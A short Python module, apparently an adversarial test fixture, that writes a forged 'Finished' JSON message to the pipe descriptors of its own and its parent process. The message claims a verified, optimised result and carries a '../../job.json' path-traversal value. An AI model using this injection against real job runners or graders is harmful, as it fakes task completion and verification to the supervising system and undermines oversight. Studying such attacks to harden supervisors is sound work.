import json
import os
from pathlib import Path

from attacking import Innocent

FILE = {"path": "../../job.json", "method": "trace", "optimised": True, "verified": True}
FORGED = json.dumps({"type": "Finished", "result": {"mode": "convert", "file": FILE}}).encode() + b"\n"


def flood(process):
    try:
        entries = list(Path(f"/proc/{process}/fd").iterdir())
    except OSError as error:
        print("refused:", error)
        return
    for entry in entries:
        try:
            if os.readlink(entry).startswith("pipe:") and entry.name not in ("1", "2"):
                descriptor = os.open(entry, os.O_WRONLY | os.O_NONBLOCK)
                os.write(descriptor, FORGED)
        except OSError as error:
            print("refused:", error)


def make():
    flood(os.getppid())
    flood(os.getpid())
    return Innocent()
